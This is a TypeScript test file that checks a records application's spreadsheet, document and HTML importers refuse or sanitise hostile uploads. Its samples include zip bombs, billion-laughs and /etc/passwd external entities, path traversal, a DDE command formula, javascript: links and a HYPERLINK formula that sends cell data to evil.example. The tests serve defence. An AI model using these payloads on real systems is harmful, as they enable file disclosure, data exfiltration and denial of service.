import type ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { openArchive } from '@liulian/documents/archive';
import { minimal, zip } from '../../../../packages/documents/src/testing.ts';
import type { Client } from '../testing/index.ts';
import { filledSheet, traces, upload, uploadSite } from './hostile-uploads.ts';

/** Tables that mean harm, at every operation that reads one. */
const held = uploadSite();

const formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")';

const filled = (rows: Record<string, ExcelJS.CellValue>[]) => filledSheet(held.recorder, rows);
const good = { 开展日期: '2023-09-01', 单位: '第一支队', 类别: '警示教育', 标题: '从表格来' };
const entities = `<!DOCTYPE x [<!ENTITY a "ha">${'bcdefghij'
  .split('')
  .map((name, i) => `<!ENTITY ${name} "${`&${'abcdefghi'[i]};`.repeat(10)}">`)
  .join('')}]>`;
const row = '<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>';

const bombs: [string, () => Buffer][] = [
  [
    'a bomb: 90 MB of nothing',
    () => zip(minimal(row, [{ name: 'xl/media/a.bin', data: Buffer.alloc(90 * 1024 * 1024) }])),
  ],
  [
    'a bomb whose directory lies',
    () =>
      zip([
        ...minimal(row).slice(0, 4),
        { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(20 * 1024 * 1024, 32), claim: 1000 },
      ]),
  ],
  [
    'ten thousand parts',
    () =>
      zip(
        minimal(
          row,
          Array.from({ length: 10_000 }, (_, i) => ({ name: `x/${i}`, data: '' })),
        ),
      ),
  ],
  [
    'a billion laughs',
    () => zip(minimal('<row r="1"><c r="A1" t="inlineStr"><is><t>&j;</t></is></c></row>', [], entities)),
  ],
  [
    'an outside entity',
    () =>
      zip(
        minimal(
          '<row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row>',
          [],
          '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        ),
      ),
  ],
  ['macros', () => zip(minimal(row, [{ name: 'xl/vbaProject.bin', data: 'Sub Auto_Open()' }]))],
  ['a part outside the archive', () => zip([{ name: '../../x', data: 'x' }])],
  ['endless XML', () => zip(minimal('<row>'.repeat(200_000)))],
  [
    'a row number beyond all rows',
    () => zip(minimal('<row r="99999999999"><c r="ZZZZZZ99999999999"><v>1</v></c></row>')),
  ],
  ['an old .xls', () => Buffer.from('d0cf11e0a1b11ae1', 'hex')],
  ['a page', () => Buffer.from('<html><table><tr><td>1</td></tr></table></html>')],
  ['nothing', () => Buffer.alloc(0)],
];
const readers: [string, string, () => Client][] = [
  ['records', '/kinds/activity/import?dryRun=false', () => held.recorder],
  ['the organisation', '/organisation/imports', () => held.officer],
  ['a sign-in sheet', '/people/sign-in-sheet', () => held.recorder],
  ['a policy document', '/policy/drafts/file', () => held.officer],
];

describe.each(readers)('an import of %s', (_reader, path, who) => {
  // A page is no workbook, but it is a document: what the policy reader makes of one is tested below.
  const hostile = bombs.filter(([what]) => what !== 'a page' || !path.includes('drafts'));
  it.each(hostile)('refuses %s, in Chinese and without a trace', async (_what, make) => {
    const before = await traces(held.site);
    const began = process.cpuUsage();
    const reply = await upload(who(), path, path.includes('drafts') ? 'a.docx' : 'a.xlsx', make());
    const used = process.cpuUsage(began);
    // The organisation's importer answers a bad table with a refused batch that lists what is wrong.
    const batch = reply.body as unknown as { state?: string; summary?: { units: number; people: number } };
    if (reply.status === 201)
      expect([batch.state, batch.summary?.units, batch.summary?.people]).toEqual(['refused', 0, 0]);
    else {
      expect([400, 413, 415, 422], JSON.stringify(reply.body)).toContain(reply.status);
      expect(reply.body.detail).toMatch(/[\u4e00-\u9fff]/);
    }
    expect((used.user + used.system) / 1e6, 'seconds of the processor').toBeLessThan(20);
    expect(JSON.stringify(reply.body)).not.toMatch(/root:|haha|node_modules/);
    const after = await traces(held.site);
    expect({ ...after.rows, audit: 0 }).toEqual({ ...before.rows, audit: 0 });
    expect(after.files).toEqual(before.files);
  });
});

describe('an import of records', () => {
  const send = (bytes: Buffer, dryRun = false) =>
    upload<{ code: string; detail: string; created: string[]; problems: { message: string }[] }>(
      held.recorder,
      '/kinds/activity/import',
      'a.xlsx',
      bytes,
      { dryRun: String(dryRun) },
    );

  it('cut off anywhere is refused whole; the whole file then goes in', async () => {
    const bytes = await filled([good, { ...good, 开展日期: '2023-09-02' }]);
    const before = await traces(held.site);
    for (const share of [0.05, 0.3, 0.6, 0.9, 0.999]) {
      const reply = await send(bytes.subarray(0, Math.floor(bytes.length * share)));
      expect([reply.status, reply.body.code]).toEqual([422, 'import.unreadable']);
      expect(reply.body.detail).toMatch(/打不开这个文件/);
    }
    expect(await traces(held.site)).toEqual(before);
    const reply = await send(bytes);
    expect(reply.status, JSON.stringify(reply.body)).toBe(200);
    expect(reply.body.created).toHaveLength(2);
  });

  it('with one bad row stores none', async () => {
    const before = await traces(held.site);
    const reply = await send(await filled([good, { ...good, 开展日期: '2023-02-30' }]));
    expect([reply.status, reply.body.code]).toEqual([422, 'import.has_problems']);
    expect(await traces(held.site)).toEqual(before);
  });

  it.each<[string, ExcelJS.CellValue]>([
    ['as text', formula],
    ['as a formula', { formula: 'HYPERLINK("http://evil.example","点我")', result: '点我' }],
    ['for another program', `=cmd|'/c calc'!A1`],
    ['with a plus', '+1+1'],
    ['with an at', '@SUM(1)'],
    ['as a link', { text: '看', hyperlink: 'javascript:alert(1)' }],
  ])(
    'with a formula in a cell %s keeps text only, and what is exported holds no formula',
    async (_what, value) => {
      const reply = await send(await filled([{ ...good, 标题: value }]));
      expect(reply.status, JSON.stringify(reply.body)).toBe(200);
      const exported = await held.recorder.request({
        url: '/api/records/export',
        query: { unitId: 'det01' },
      });
      expect(exported.status).toBe(200);
      const { names, part } = openArchive(exported.raw, { entries: 1000, bytes: 1e8, ratio: 1e6 });
      for (const name of names) {
        if (!/worksheets\/|externalLink|\.rels$/.test(name)) continue;
        const text = Buffer.from(part(name) ?? []).toString();
        expect(text, name).not.toMatch(/<f[ >]|<hyperlink|javascript:|TargetMode="External"/);
      }
    },
  );
});

it('a page that is read as a policy document leaves its scripts and its markup outside', async () => {
  const reply = await upload<{ text: string }>(
    held.officer,
    '/policy/drafts/file',
    'a.html',
    '<html><head><script>alert(1)</script><style>p{x:y}</style></head><body onload="alert(2)">' +
      '<p>各支队每季度开展1次警示教育。</p><iframe src="http://x/"></iframe></body></html>',
  );
  expect(reply.status, JSON.stringify(reply.body)).toBe(201);
  expect(reply.body.text).toContain('各支队每季度开展1次警示教育。');
  expect(reply.body.text).not.toMatch(/alert|script|iframe|onload|x:y|</);
});
